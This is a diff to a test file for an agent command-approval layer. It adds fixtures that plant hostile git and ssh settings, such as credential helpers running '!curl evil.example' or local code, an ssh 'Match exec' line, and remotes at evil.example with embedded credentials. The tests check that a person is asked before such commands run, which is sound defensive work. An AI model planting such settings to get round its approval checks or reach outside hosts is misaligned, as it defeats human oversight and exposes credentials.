@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import json
 import os
 import subprocess
 from pathlib import Path
@@ -20,6 +21,7 @@ from dragoman.tools.child_environment import path_outside
 from dragoman.values.calls import Allow, Deny
 from policy.test_outside import Person, Shell, a_call
 
+ADDRESS = "https://git.example.org/team/it.git"
 HARMLESS = [
     ("git push", "git push origin main"),
     ("git push", "git push -u origin HEAD"),
@@ -55,7 +57,7 @@ def workspace(tmp_path: Path, home: Path) -> Path:
     folder = tmp_path / "work"
     folder.mkdir()
     git(folder, "init", "-q", "-b", "main")
-    git(folder, "remote", "add", "origin", "https://git.example.org/team/it.git")
+    git(folder, "remote", "add", "origin", ADDRESS)
     for sample in (folder / ".git" / "hooks").glob("*"):
         assert sample.name.endswith(".sample")
     return folder
@@ -72,7 +74,7 @@ class Session:
         self.person = Person()
         grants = Grants()
         for prefix in prefixes:
-            grants.add(f"outside* {prefix}")
+            grants.add(f"outside* {with_address(prefix)}")
         law = Law((), (str(workspace),))
         self.approvals = Approvals(lambda name: Shell(), "auto", self.person, grants=grants, law=lambda: law, has_sandbox=lambda: True)
         self.workspace = workspace
@@ -88,14 +90,20 @@ class Session:
         return self.person.seen[0].why or "?" if self.person.seen else ""
 
 
+def with_address(prefix: str) -> str:
+    """As it is offered: a beginning that reaches a remote is allowed for that one alone."""
+    return f"{prefix} → {ADDRESS}" if prefix.startswith("git ") else prefix
+
+
 @pytest.mark.parametrize(("prefix", "command"), HARMLESS)
 def test_a_beginning_is_offered_and_then_spares_the_question_for_the_session(workspace: Path, prefix: str, command: str) -> None:
     session = Session(workspace)
     assert session.asks(command) == "?"
-    assert session.person.seen[0].prefix == prefix
-    session.person.answer = Allow(remember="session", prefix=prefix)
+    offered = with_address(prefix)
+    assert session.person.seen[0].prefix == offered
+    session.person.answer = Allow(remember="session", prefix=offered)
     session.tries(command)
-    assert session.approvals.grants.of_session == {f"outside* {prefix}"}
+    assert session.approvals.grants.of_session == {f"outside* {offered}"}
     assert session.asks(command) == ""
     run = session.approvals.outside_run("c1")
     assert run is not None
@@ -106,11 +114,11 @@ def test_a_beginning_is_never_saved(workspace: Path, tmp_path: Path) -> None:
     file = str(tmp_path / "grants.jsonl")
     session = Session(workspace)
     session.approvals.grants = Grants(file, str(workspace))
-    session.person.answer = Allow(remember="saved", prefix="git push")
+    session.person.answer = Allow(remember="saved", prefix=with_address("git push"))
     session.tries("git push")
     assert not os.path.exists(file)
     assert session.asks("git push") != ""
-    Path(file).write_text(f'{{"folder":"{workspace}","key":"outside* git push"}}\n')
+    Path(file).write_text(json.dumps({"folder": str(workspace), "key": f"outside* {with_address('git push')}"}) + "\n")
     assert session.asks("git push") != ""
 
 
@@ -257,6 +265,36 @@ def bare_folder(workspace: Path, home: Path) -> None:
     (workspace / "objects").mkdir()
 
 
+def remote_of_old(workspace: Path, home: Path) -> None:
+    git(workspace, "remote", "rename", "origin", "upstream")
+    git(workspace, "remote", "add", "fork", ADDRESS)
+    plant(workspace / ".git" / "branches" / "origin", "https://evil.example/x\n")
+
+
+def settings_kept_in_the_workspace(workspace: Path, home: Path) -> None:
+    plant(workspace / "gitconfig", "[credential]\n\thelper = !curl evil.example\n")
+    (home / ".gitconfig").symlink_to(workspace / "gitconfig")
+
+
+def settings_included_from_the_workspace(workspace: Path, home: Path) -> None:
+    plant(workspace / "gitconfig", "[credential]\n\thelper = !curl evil.example\n")
+    plant(home / ".gitconfig", f"[include]\n\tpath = {workspace}/gitconfig\n")
+
+
+def ssh_settings_kept_in_the_workspace(workspace: Path, home: Path) -> None:
+    plant(workspace / "ssh" / "config", "Match exec ./x\n")
+    (home / ".ssh").mkdir()
+    (home / ".ssh" / "config").symlink_to(workspace / "ssh" / "config")
+
+
+def helper_that_runs_the_project(workspace: Path, home: Path) -> None:
+    plant(home / ".gitconfig", '[credential]\n\thelper = "!make token"\n')
+
+
+def helper_that_loads_from_here(workspace: Path, home: Path) -> None:
+    plant(home / ".gitconfig", "[credential]\n\thelper = !python3 -m logins\n")
+
+
 def no_remote(workspace: Path, home: Path) -> None:
     git(workspace, "remote", "remove", "origin")
 
@@ -265,7 +303,8 @@ LEADS = [
     hook, hooks_elsewhere, hooks_of_the_user, ssh_of_the_repository, helper_of_the_repository, helper_of_the_user_in_the_workspace,
     included, local_remote, helper_for_the_address, local_push_address, replaced_address, replaced_push_address,
     replaced_by_the_repository, branch_with_a_remote_of_its_own, receiving_program, link_among_the_refs, link_among_the_logs,
-    other_name_of_a_file, git_directory_elsewhere, bare_folder, no_remote,
+    other_name_of_a_file, git_directory_elsewhere, bare_folder, no_remote, remote_of_old, settings_kept_in_the_workspace,
+    settings_included_from_the_workspace, ssh_settings_kept_in_the_workspace, helper_that_runs_the_project, helper_that_loads_from_here,
 ]  # fmt: skip
 
 
@@ -276,6 +315,35 @@ def test_git_is_asked_about_where_it_would_run_or_reach_something_else(workspace
     lead(workspace, home)
     assert session.asks("git push") not in ("", "?")
     assert Session(workspace).asks("git push") == "?"
+
+
+def test_a_remote_that_was_made_since_is_asked_about(workspace: Path) -> None:
+    """A command cannot change the workspace's own settings, but it can make a repository within, with a remote of its choice."""
+    session = Session(workspace, "git push")
+    inner = workspace / "sub"
+    inner.mkdir()
+    git(inner, "init", "-q", "-b", "main")
+    git(inner, "remote", "add", "origin", "https://me:password@evil.example/x.git")
+    assert "another address than https://evil.example/x.git" in session.asks("git push origin main", directory=str(inner))
+    assert session.person.seen[0].prefix == "git push → https://evil.example/x.git"
+    session.person.answer = Allow(remember="session", prefix="git push → https://evil.example/x.git")
+    session.tries("git push", directory=str(inner))
+    assert session.asks("git push", directory=str(inner)) == ""
+    assert session.asks("git push") == ""
+    git(workspace, "remote", "add", "more", "ssh://git@other.example/x.git")
+    assert session.asks("git push origin main") == ""
+    assert "ssh://other.example/x.git" in session.asks("git push more")
+    assert "ssh://other.example/x.git" in session.asks("git push")
+
+
+def test_what_it_starts_loads_no_code_of_the_folder(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("PYTHONPATH", "src")
+    monkeypatch.delenv("NODE_PATH", raising=False)
+    session = Session(workspace, "kubectl get")
+    assert session.asks("kubectl get pods") == ""
+    run = session.approvals.outside_run("c1")
+    assert run is not None
+    assert (dict(run.environment)["PYTHONPATH"], "NODE_PATH" in dict(run.environment)) == ("", False)
 
 
 def test_gh_asks_git_so_it_is_asked_about_too(workspace: Path, home: Path) -> None:
@@ -297,6 +365,23 @@ def test_a_program_in_the_workspace_is_not_run_by_a_beginning(workspace: Path, h
     (home / "linked").symlink_to(workspace / "venv" / "bin")
     monkeypatch.setenv("PATH", f"{home}/linked{os.pathsep}{path}")
     assert session.asks("docker ps") != ""
+
+
+@pytest.mark.parametrize("name", ["KUBECONFIG", "KUBERC", "DOCKER_CONFIG", "GH_CONFIG_DIR"])
+def test_variables_that_name_a_place_from_here_are_asked_about(workspace: Path, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv(name, "settings")
+    assert Session(workspace, "docker ps").asks("docker ps") != ""
+
+
+@pytest.mark.parametrize("place", [".docker/config.json", ".kube", ".config/gh/config.yml", ".ssh"])
+def test_settings_that_are_kept_in_the_workspace_are_asked_about(workspace: Path, home: Path, place: str) -> None:
+    session = Session(workspace, "docker ps", "kubectl get")
+    assert session.asks("docker ps") == ""
+    (home / place).parent.mkdir(parents=True, exist_ok=True)
+    (home / place).symlink_to(workspace / "kept")
+    assert place in session.asks("docker ps")
+    (workspace / "kept").symlink_to(home / "elsewhere")
+    assert place in session.asks("kubectl get pods"), "whose links lead where the model wants"
 
 
 @pytest.mark.parametrize("name", ["KUBECONFIG", "GIT_SSH_COMMAND", "DOCKER_CONFIG", "BASH_ENV", "HOME", "LD_PRELOAD", "GIT_CONFIG_COUNT"])
